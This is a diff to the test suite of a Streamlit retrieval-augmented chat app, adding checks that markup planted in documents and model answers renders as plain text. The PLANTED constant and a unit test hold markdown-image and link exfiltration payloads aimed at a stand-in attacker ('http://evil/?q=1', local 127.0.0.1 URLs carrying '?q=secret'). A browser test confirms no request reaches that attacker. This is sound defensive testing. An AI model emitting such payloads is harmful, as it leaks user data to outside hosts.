@@ -14,6 +14,7 @@ downloads a browser. It is skipped, with the reason, when either is missing.
 
 from __future__ import annotations
 
+import html
 import json
 import os
 import re
@@ -23,6 +24,7 @@ import subprocess
 import sys
 import time
 from pathlib import Path
+from typing import Any
 
 import pytest
 from conftest import chromium_path
@@ -127,10 +129,11 @@ def app_env(tmp_path: Path, settings, embedder, monkeypatch: pytest.MonkeyPatch)
 
 
 def _texts(at: AppTest) -> str:
-    """Everything the app shows as text (markdown, captions, alerts), joined."""
+    """Everything the app shows as text (markdown, captions, alerts), joined, character references
+    decoded (the app writes document and model text as references: see ``streamlit_app._inert``)."""
     parts = [m.value for m in at.markdown] + [c.value for c in at.caption]
     parts += [e.value for alerts in (at.info, at.success, at.warning, at.error) for e in alerts]
-    return "\n".join(str(p) for p in parts)
+    return html.unescape("\n".join(str(p) for p in parts))
 
 
 def _answers(at: AppTest) -> list[str]:
@@ -142,7 +145,7 @@ def _answers(at: AppTest) -> list[str]:
                 + [c.value for c in msg.caption]
                 + [w.value for w in msg.warning]
             )
-            shown.append("\n".join(str(p) for p in parts))
+            shown.append(html.unescape("\n".join(str(p) for p in parts)))
     return shown
 
 
@@ -185,9 +188,11 @@ def test_upload_ingest_two_turn_chat_citations_feedback(app_env: dict[str, Path]
 
     # The chip opens the cited passage with the supporting sentence highlighted.
     chips.set_value(1).run()
-    passage = "\n".join(m.value for m in at.markdown if m.value.startswith('<div class="rag-passage'))
+    passage = html.unescape(
+        "\n".join(m.value for m in at.markdown if m.value.startswith('<div class="rag-passage'))
+    )
     assert any("1889" in marked for marked in re.findall(r"<mark>(.*?)</mark>", passage, re.S)), passage
-    assert any("characters" in m.value and "eiffel.md" in m.value for m in at.markdown)
+    assert any("characters" in m.value and "eiffel.md" in html.unescape(m.value) for m in at.markdown)
 
     # Turn two: a follow-up that only makes sense with the first turn ("it").
     at.chat_input[0].set_value("How tall is it?").run()
@@ -232,7 +237,7 @@ def test_upload_ingest_two_turn_chat_citations_feedback(app_env: dict[str, Path]
         chips = at.button_group(key="cite-4")
         assert chips.options[0] == "[1] fake-memo.pdf · p. 1", chips.options
         chips.set_value(1).run()
-        assert any("fake-memo.pdf** · page 1 · characters" in m.value for m in at.markdown)
+        assert any("fake-memo.pdf** · page 1 · characters" in html.unescape(m.value) for m in at.markdown)
 
     # Delete a document from the list.
     at.radio(key="page").set_value("Documents").run()
@@ -254,13 +259,14 @@ def test_flagged_sentences_and_evaluation_page(app_env: dict[str, Path]) -> None
         [],
         Grounding(0.3, [SentenceSupport(text[24:], 24, len(text), 0.1, flagged=True, reason="unsupported")]),
     )
-    marked = streamlit_app._marked_text(answer)
+    marked = html.unescape(streamlit_app._marked_text(answer))
     assert marked.startswith("Paris is in France [1]. ")
     assert (
         '<span class="rag-flagged" title="unsupported (support 0.10)">⚠️ The tower is made of cheese.</span>'
         in marked
     )
-    assert streamlit_app._highlight("A <b> c. Then d.", [(9, 16)]) == "A &lt;b&gt; c. <mark>Then d.</mark>"
+    highlighted = streamlit_app._highlight("A <b> c. Then d.\n\nMore.", [(9, 22)])
+    assert highlighted == "A &#60;b&#62; c&#46; <mark>Then d&#46;</mark>&#10;&#10;<mark>More</mark>&#46;"
 
     at = AppTest.from_file(str(app_env["app"]), default_timeout=60)
     at.run()
@@ -441,6 +447,137 @@ def test_real_chromium_asks_clicks_a_citation_and_screenshots(
         Path(keep).mkdir(parents=True, exist_ok=True)
         shutil.copy(shot, Path(keep) / "streamlit-citation.png")
         shutil.copy(tmp_path / "flagged.png", Path(keep) / "streamlit-flagged.png")
+
+
+# What a planted document carries: every way Markdown or HTML could make the browser fetch a URL
+# (an image at once; a link, a raw tag, an autolink, a reference image), each aimed at a stand-in
+# attacker on another 127.0.0.1 port. The last line is the sentence the scripted generator answers
+# with, so the answer carries a planted image too (and streams it).
+PLANTED = (
+    "# Harbour log\n\n"
+    "Night notes: ![chart](http://127.0.0.1:{port}/passage.png?q=secret) and "
+    "[the report](http://127.0.0.1:{port}/link) "
+    '<img src="http://127.0.0.1:{port}/raw.png"> http://127.0.0.1:{port}/auto ![ref][pic] :red[alert]\n\n'
+    "[pic]: http://127.0.0.1:{port}/reference.png\n\n"
+    "The harbour master records the tide at dawn "
+    "![beacon](http://127.0.0.1:{port}/answer.png?q=secret) every day.\n"
+)
+
+
+def test_inert_text_shows_markup_as_text() -> None:
+    import streamlit_app
+    from rag_app.answer import Answer, Grounding, SentenceSupport
+
+    planted = "![x](http://evil/?q=1) [a](http://e) <img src=x> :red[r] $x$ *b* `c`\n\nnext **line**"
+    inert = streamlit_app._inert(planted)
+    assert html.unescape(inert) == planted  # shows exactly the text ...
+    assert not set(inert) & set("[]()<>!:*`$\n")  # ... with no character left that could be markup
+    assert re.fullmatch(r"[\w &#;]*", inert)
+    assert streamlit_app._label_text("a![x](http://e).md") == r"a\!\[x\]\(http\://e\).md"
+    assert streamlit_app._code("a`b``c") == "``` a`b``c ```"
+    text = "Sea ![i](http://e/) level. Rises [1]."
+    flagged = Answer("q", text, [], Grounding(0.3, [SentenceSupport(text[4:23], 4, 23, 0.1, flagged=True)]))
+    marked = streamlit_app._marked_text(flagged)
+    assert "<img" not in marked and "](" not in marked and marked.count("<span") == 1
+    assert html.unescape(re.sub(r"<[^>]+>", "", marked)) == "Sea ⚠️ ![i](http://e/) level. Rises [1]."
+
+
+def _streamlit(app: Path, port: int, tmp_path: Path) -> subprocess.Popen[bytes]:
+    log = (tmp_path / "streamlit.log").open("wb")
+    return subprocess.Popen(
+        [sys.executable, "-m", "streamlit", "run", str(app), "--server.address", "127.0.0.1",
+         "--server.port", str(port), "--server.headless", "true", "--browser.gatherUsageStats", "false",
+         "--client.toolbarMode", "minimal"],
+        stdout=log, stderr=subprocess.STDOUT, env=dict(os.environ), cwd=tmp_path,
+    )  # fmt: skip
+
+
+@pytest.mark.slow
+def test_real_chromium_planted_markup_loads_nothing_remote(
+    app_env: dict[str, Path], settings, embedder, tmp_path: Path
+) -> None:
+    """OWASP LLM02: a planted passage and a planted answer make the browser fetch nothing but the app."""
+    import http.server
+    import threading
+    from urllib.parse import urlsplit
+
+    chromium = chromium_path()
+    sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed (dev extra)")
+
+    hits: list[str] = []
+
+    class Attacker(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            hits.append(self.path)
+            self.send_response(200)
+            self.send_header("Content-Type", "image/gif")
+            self.end_headers()
+            self.wfile.write(b"GIF89a")
+
+        def log_message(self, *args: object) -> None:
+            pass
+
+    attacker = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Attacker)
+    threading.Thread(target=attacker.serve_forever, daemon=True).start()
+    docs = tmp_path / "planted"
+    docs.mkdir()
+    (docs / "harbour.md").write_text(PLANTED.format(port=attacker.server_address[1]), encoding="utf-8")
+    RAG(app_env["index"], settings, embedder=embedder).ingest([docs])
+
+    port = _free_port()
+    origin = f"127.0.0.1:{port}"
+    requests: list[str] = []
+    offsite: list[str] = []
+    server = _streamlit(app_env["app"], port, tmp_path)
+    try:
+        _wait_for_http(port, server)
+        with sync_api.sync_playwright() as p:
+            browser = p.chromium.launch(executable_path=chromium, headless=True, args=CHROMIUM_FLAGS)
+            page = browser.new_page(viewport={"width": 1280, "height": 1000})
+            page.on("request", lambda r: requests.append(r.url))
+
+            def guard(route: Any) -> None:  # nothing may leave this machine, even if the app regresses
+                if urlsplit(route.request.url).hostname == "127.0.0.1":
+                    route.continue_()
+                else:
+                    offsite.append(route.request.url)
+                    route.abort()
+
+            page.route("**/*", guard)
+            page.goto(f"http://{origin}/", wait_until="domcontentloaded")
+            box = page.get_by_test_id("stChatInputTextArea")
+            box.wait_for(timeout=60_000)
+            box.fill("When does the harbour master record the tide?")
+            box.press("Enter")
+            chip = page.get_by_text("[1] harbour.md", exact=True)
+            chip.wait_for(timeout=60_000)
+            reply = page.get_by_test_id("stChatMessage").last.inner_text()
+            # the planted image is in the answer, shown as text with its target visible
+            assert (
+                "at dawn ![beacon](http://127.0.0.1:" in reply and "answer.png?q=secret) every day" in reply
+            ), reply
+            chip.click()
+            passage = page.locator(".rag-passage")
+            passage.wait_for(timeout=30_000)
+            shown = passage.inner_text()
+            assert "![chart](http://127.0.0.1:" in shown and '<img src="http://127.0.0.1:' in shown, shown
+            assert "[pic]: http://127.0.0.1:" in shown and ":red[alert]" in shown, shown
+            assert page.locator(".rag-passage mark").count() >= 1  # the supporting span still highlighted
+            page.wait_for_timeout(1500)  # time for anything that would load to load
+            images = page.eval_on_selector_all("img", "els => els.map(e => e.src)")
+            links = page.eval_on_selector_all("a[href]", "els => els.map(e => e.href)")
+            page.screenshot(path=str(tmp_path / "planted.png"), full_page=True)
+            browser.close()
+    finally:
+        server.terminate()
+        server.wait(timeout=30)
+        attacker.shutdown()
+    assert hits == [], f"the stand-in attacker was reached: {hits}"
+    assert offsite == [], offsite
+    fetched = [u for u in requests if not u.startswith(("data:", "blob:"))]
+    assert fetched and all(urlsplit(u).netloc == origin for u in fetched), sorted(set(fetched))
+    assert all(u.startswith(("data:", f"http://{origin}/")) for u in images), images
+    assert not [u for u in links if str(attacker.server_address[1]) in u], links
 
 
 def test_evaluation_page_shows_the_loop_lineage_and_takes_labels(app_env: dict[str, Path]) -> None:
